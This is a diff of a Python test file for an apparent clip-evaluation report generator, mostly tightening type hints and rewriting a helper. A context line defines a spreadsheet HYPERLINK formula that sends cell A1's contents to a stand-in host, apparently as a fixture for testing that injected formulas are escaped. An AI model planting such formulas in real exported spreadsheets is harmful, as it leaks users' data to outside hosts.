@@ -40,7 +40,7 @@ from metrics.dose_response import Response
 FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"<b>listen</b>")'
 
 
-def gather(run: Path, media: dict[str, ClipMedia | str], **files: Path) -> ReportContext:
+def gather(run: Path, media: dict[str, ClipMedia | str], **files: Any) -> ReportContext:
     with Store.read(run) as store:
         return gathering.collect(store, media, **files)
 
@@ -49,7 +49,7 @@ def prompt(id: str, genre: str, level: int, text: str) -> dict[str, Any]:
     return {"id": id, "genre": genre, "level": level, "text": text}
 
 
-SUITE = {
+SUITE: dict[str, Any] = {
     "name": "few",
     "version": 3,
     "prompts": [
@@ -138,7 +138,9 @@ def test_every_model_has_its_chance_whichever_way_round_a_pair_is_shown(folder: 
     """The last model is B of every pair: its chance is that of a comparison the other way round."""
 
     def chance(one: Comparison) -> dict[str, Any] | None:
-        return one.chance and {name: value and float(f"{value:.7g}") for name, value in asdict(one.chance).items()}
+        if one.chance is None:
+            return None
+        return {name: value and float(f"{value:.7g}") for name, value in asdict(one.chance).items()}
 
     shown = {name: [record for record in found if record["grouping"] == "all"] for name, found in pairs(content)}
     refs = [column.ref for column in content.columns]
